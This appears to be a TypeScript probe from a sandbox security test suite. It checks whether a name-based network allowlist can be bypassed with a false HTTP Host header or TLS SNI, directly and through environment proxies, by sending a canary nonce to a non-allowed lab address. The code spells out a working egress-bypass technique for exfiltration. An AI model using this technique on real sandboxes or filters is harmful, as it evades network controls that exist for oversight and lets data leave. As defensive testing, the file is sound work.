import { isIP } from 'node:net'
import { SITES } from '../../../lab/topology.ts'
import type { Session } from '../../session.ts'
import type { Probe } from '../../types.ts'
import { grantedInternet } from './granted.ts'
import { ON_LAN } from './on-lan.ts'
import { clientHello } from './packets.ts'
import { at, byTcp, plantReach, type Target, together, WAIT_MS } from './reach.ts'

const { allowed, other } = SITES
const NOT_ALLOWED: readonly string[] = [other.four, other.six]

const http = (name: string, path: string): string =>
  `GET /${path} HTTP/1.1\r\nHost: ${name}\r\nConnection: close\r\n\r\n`

/** Proxies of the environment inside, as far as they are plain addresses. */
async function proxiesIn(inside: Session): Promise<Target[]> {
  const { text } = await inside.ask('net-addresses')
  const found = [...text.matchAll(/^proxy \w+:\/\/(?:[^@/\s]*@)?([\w.]+):(\d{1,5})\b/gm)]
  return found.slice(0, 4).flatMap(([, host = '', port]): Target[] => {
    const address = host === 'localhost' ? '127.0.0.1' : host
    return isIP(address) === 0 ? [] : [[address, Number(port)]]
  })
}

export const falseName: Probe = {
  ...ON_LAN,
  id: 'network-false-name',
  number: 88,
  title: 'get past a list of names by a false Host or SNI',
  tries: `Says a nonce to the address of a site that no list names, with the name of an allowed one as the Host of HTTP and as the SNI of TLS, and \
by proxies that the environment names. Boxes of ours have --network allow: with that one.`,
  attacker: 'user in the box',
  severity: 'exfiltration',
  standsFor: ['ATT&CK T1090.004', 'proxies that believe the Host header'],
  closing:
    'Judge by the address that the resolver itself has given for the name, not by what the application says.',
  price: 'Sites that share an address are opened together.',
  granted: grantedInternet,
  plant: (scene, canary) =>
    plantReach(scene, canary, {
      setting: 'allowlist',
      counts: ({ address }) => NOT_ALLOWED.includes(address),
      tryIt: async (inside, text) => {
        // So that a gate that opens by names has opened the allowed one.
        await inside.ask('net-resolve', [String(WAIT_MS), allowed.name])
        const proxies = await proxiesIn(inside)
        const connect = `CONNECT ${other.four}:80 HTTP/1.1\r\nHost: ${allowed.name}:80\r\n\r\n`
        const absolute = `GET http://${other.four}/${text} HTTP/1.1\r\nHost: ${allowed.name}\r\n\r\n`
        return together(
          byTcp(inside, http(allowed.name, text), at(NOT_ALLOWED, 80)),
          byTcp(inside, clientHello(allowed.name, text), at(NOT_ALLOWED, 443)),
          ...(proxies.length === 0
            ? []
            : [
                byTcp(inside, `${connect}${http(allowed.name, text)}`, proxies),
                byTcp(inside, absolute, proxies),
              ]),
        )
      },
    }),
}
